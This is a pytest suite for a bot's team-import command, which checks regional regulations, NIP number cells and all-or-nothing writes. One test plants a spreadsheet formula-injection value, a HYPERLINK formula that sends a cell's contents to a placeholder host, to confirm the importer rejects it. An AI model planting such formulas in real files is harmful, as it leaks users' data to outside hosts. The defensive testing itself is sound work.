"""`python -m bot import teams FILE`: teams formed from a file under the same rules as in
the bot, all or nothing."""
from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from bot.cli import main

SAMPLES = Path(__file__).resolve().parent.parent / "samples"


@pytest.fixture
def env(monkeypatch, db_url):
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("SIKERJA_LANGUAGE", "en")
    monkeypatch.delenv("SIKERJA_PROFILE", raising=False)
    assert main(["import", "units", str(SAMPLES / "units.csv")]) == 0
    assert main(["import", "employees", str(SAMPLES / "employees.csv")]) == 0
    return monkeypatch


async def _teams(app):
    async with app.uow() as uow:
        unit = await uow.org.unit_by_code("DINKES.P2P")
        teams = await uow.teams.in_units([unit.id])
        return teams, (await uow.teams.members(teams[0].id) if teams else [])


def test_sample_teams_import_then_reimport_changes_nothing(env, app, capsys):
    assert main(["import", "teams", str(SAMPLES / "teams.csv")]) == 0
    assert "2 new, 0 already there, 0 problems" in capsys.readouterr().out
    assert main(["import", "teams", str(SAMPLES / "teams.csv")]) == 0
    assert "0 new, 2 already there" in capsys.readouterr().out


async def test_imported_team_has_its_ketua_and_members(env, app):
    assert await asyncio.to_thread(main, ["import", "teams", str(SAMPLES / "teams.csv")]) == 0
    teams, members = await _teams(app)
    assert [t.name for t in teams] == ["Tim Sub Kegiatan Surveilans Penyakit Menular"]
    assert {m.role.value for m in members} == {"ketua", "penanggung_jawab", "anggota"}


def test_a_bad_row_means_nothing_is_written(env, app, tmp_path, capsys):
    bad = tmp_path / "teams.csv"
    bad.write_text(
        "unit_code,name,kind,goal,starts_on,ends_on,ketua_nip,member_nips\n"
        "DINKES.P2P,Tim Baik,rutin,Tujuan yang jelas,2026-10-01,2026-12-31,199203082019031007,\n"
        "DINKES.P2P,Tim Jelek,rutin,Tujuan,2026-10-01,2026-12-31,199001012015031001,\n"
        "NOPE,Tim Tanpa Unit,rutin,Tujuan,2026-10-01,2026-12-31,,\n")
    assert main(["import", "teams", str(bad)]) == 1
    out = capsys.readouterr().out
    assert "Row 3: no active employee has NIP 199001012015031001" in out
    assert "Row 4: unit NOPE is unknown or has no head" in out
    assert "nothing written" in out


def test_surakarta_ketua_is_not_set_by_import(env, app, tmp_path, capsys):
    """Surakarta Ps 15(4): the Sekda appoints the ketua; an import cannot."""
    env.setenv("SIKERJA_PROFILE", "surakarta")
    assert main(["import", "teams", str(SAMPLES / "teams.csv")]) == 1
    out = capsys.readouterr().out
    assert "Sekretaris Daerah" in out and "Pasal 15 ayat (4)" in out and "sekda" not in out


def test_an_nip_number_cell_and_a_formula_name_are_refused(env, app, tmp_path, capsys):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["unit_code", "name", "kind", "goal", "starts_on", "ends_on", "ketua_nip", "member_nips"])
    sheet.append(["DINKES.P2P", "Tim Angka", "rutin", "Tujuan yang jelas", "2026-10-01", "2026-12-31",
                  199203082019031007, ""])  # the NIP as a number cell
    sheet.append(["DINKES.P2P", "Tim Anggota", "rutin", "Tujuan yang jelas", "2026-10-01", "2026-12-31",
                  "", 199407212020012011])
    sheet.append(["DINKES.P2P", "Tim Rumus", "rutin", "Tujuan yang jelas", "2026-10-01", "2026-12-31", "", ""])
    sheet.cell(4, 2).value = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    sheet.cell(4, 2).data_type = "s"
    sheet.append(["DINKES.P2P", "Tim Tujuan", "rutin", "@SUM(A1)", "2026-10-01", "2026-12-31", "", ""])
    sheet.cell(5, 4).data_type = "s"
    path = tmp_path / "teams.xlsx"
    book.save(path)
    assert main(["import", "teams", str(path)]) == 1
    out = capsys.readouterr().out
    assert "Row 2: “1.99203082019031E+17” went through a number cell" in out and "format the NIP columns as Text" in out
    assert "Row 3: “1.99407212020012E+17” went through a number cell" in out
    assert "Row 4: “=HYPERLINK(" in out and "Row 5: “@SUM(A1)” starts with =, +, - or @" in out
    assert "0 new" in out


BANTEN_TEAMS = ("unit_code,name,kind,goal,starts_on,ends_on,ketua_nip,ketua_experience,penanggung_jawab_nip,"
                "member_nips\n"
                "DINKES,Tim Sub Kegiatan Penatausahaan Keuangan,rutin,Laporan keuangan tepat waktu,2026-10-01,"
                "2026-12-31,199001012015031099,{experience},{pj},\n")


@pytest.fixture
def banten(env, tmp_path):
    """Banten, plus a Pelaksana with a bachelor's degree and III/b in the Sekretariat."""
    env.setenv("SIKERJA_PROFILE", "banten")
    staff = tmp_path / "employees.csv"
    staff.write_text("nip,name,jabatan_name,jabatan_kind,jenjang,golongan,education,unit_code,rater_nip,phone\n"
                     "199001012015031099,\"Dedi Kurniawan, S.E.\",Penata Laporan Keuangan,Pelaksana,,III/b,S1,"
                     "DINKES.SEK,197808172003122001,\n")
    assert main(["import", "employees", str(staff)]) == 0
    return tmp_path


async def _dinkes_team(app):
    async with app.uow() as uow:
        unit = await uow.org.unit_by_code("DINKES")
        (team,) = await uow.teams.in_units([unit.id])
        decisions = await uow.decisions.for_subject("team", team.id)
        return team, {m.role.value for m in await uow.teams.members(team.id)}, decisions


async def test_banten_Ps_10_3_pelaksana_ketua_with_attested_experience(banten, app, capsys):
    """Ps 10(3)(c): without the experience the row is refused (asking for it); with it the
    Pelaksana becomes ketua and the description is in the Decision log. Ps 10(2): with the
    penanggung jawab the team starts."""
    file = banten / "teams.csv"
    file.write_text(BANTEN_TEAMS.format(experience="", pj="197808172003122001"))
    assert await asyncio.to_thread(main, ["import", "teams", str(file)]) == 1
    assert "ketua_experience" in capsys.readouterr().out
    file.write_text(BANTEN_TEAMS.format(experience="Lima tahun menyusun laporan keuangan SKPD",
                                        pj="197808172003122001"))
    assert await asyncio.to_thread(main, ["import", "teams", str(file)]) == 0
    team, roles, decisions = await _dinkes_team(app)
    assert team.ketua_id is not None and team.started and roles == {"ketua", "penanggung_jawab"}
    (attested,) = [d for d in decisions if d.action == "ketua_experience_attested"]
    assert attested.details["experience"] == "Lima tahun menyusun laporan keuangan SKPD"


async def test_banten_Ps_10_2_imported_team_without_penanggung_jawab_does_not_start(banten, app):
    file = banten / "teams.csv"
    file.write_text(BANTEN_TEAMS.format(experience="Lima tahun menyusun laporan keuangan SKPD", pj=""))
    assert await asyncio.to_thread(main, ["import", "teams", str(file)]) == 0
    team, roles, _ = await _dinkes_team(app)
    assert team.ketua_id is not None and not team.started and roles == {"ketua"}


def test_banten_Ps_1_16_a_bidang_is_not_a_unit_organisasi(banten, capsys):
    assert main(["import", "teams", str(SAMPLES / "teams.csv")]) == 1
    assert "use unit_code DINKES" in capsys.readouterr().out


def test_surakarta_no_team_imported_where_a_pengawas_runs_the_sub_activity(env, app, tmp_path, capsys):
    """Surakarta Ps 14(5)(b): no team for a sub-activity a Pejabat Pengawas runs (a unit headed by one)."""
    env.setenv("SIKERJA_PROFILE", "surakarta")
    units = tmp_path / "units.csv"
    units.write_text((SAMPLES / "units.csv").read_text()
                     + "DINKES.SEK.UMUM,Subbagian Umum dan Kepegawaian,subbagian,DINKES.SEK,198204052008011003\n")
    assert main(["import", "units", str(units)]) == 0
    capsys.readouterr()
    teams = tmp_path / "teams.csv"
    teams.write_text("unit_code,name,kind,goal,starts_on,ends_on\n"
                     "DINKES.SEK.UMUM,Tim Kearsipan,rutin,Arsip tertata,2026-10-01,2026-12-31\n"
                     "DINKES.P2P,Tim Surveilans,rutin,Surveilans berjalan,2026-10-01,2026-12-31\n")
    assert main(["import", "teams", str(teams)]) == 1
    out = capsys.readouterr().out
    assert "Row 2:" in out and "Pengawas" in out and "Pasal 14 ayat (5) huruf b" in out and "Row 3" not in out


async def test_rule_3_a_member_without_rater_is_a_row_error(banten, app, capsys):
    """Banten (the Corrections: "Penugasan tersebut dilakukan setelah penetapan kedudukan"): the
    Kepala Dinas has no Penilai on record, so he cannot be made penanggung jawab by import."""
    file = banten / "teams.csv"
    file.write_text(BANTEN_TEAMS.format(experience="Lima tahun menyusun laporan keuangan SKPD",
                                        pj="197305122000031002"))
    assert await asyncio.to_thread(main, ["import", "teams", str(file)]) == 1
    out = capsys.readouterr().out
    assert "Row 2: dr. Bambang Hermawan, M.Kes. has no Pejabat Penilai Kinerja on record yet" in out


def test_rule_56_hsu_refuses_a_sub_koordinator_at_employee_import(env, tmp_path, capsys):
    """HSU Ps 26 revoked the sub koordinator assignments: the employee import refuses the row."""
    env.setenv("SIKERJA_PROFILE", "hulu-sungai-utara")
    staff = tmp_path / "employees.csv"
    staff.write_text("nip,name,jabatan_name,jabatan_kind,jenjang,golongan,education,unit_code,rater_nip,phone\n"
                     "199001012015031099,Dedi Kurniawan,Sub Koordinator Keuangan,Fungsional,Ahli Muda,III/c,S1,"
                     "DINKES.SEK,197808172003122001,\n")
    capsys.readouterr()
    assert main(["import", "employees", str(staff)]) == 1
    out = capsys.readouterr().out
    assert "row 2, jabatan_name: the jabatan “Sub Koordinator Keuangan” cannot be assigned any more" in out
    assert "(Pasal 26 Perbup HSU 4/2025)" in out
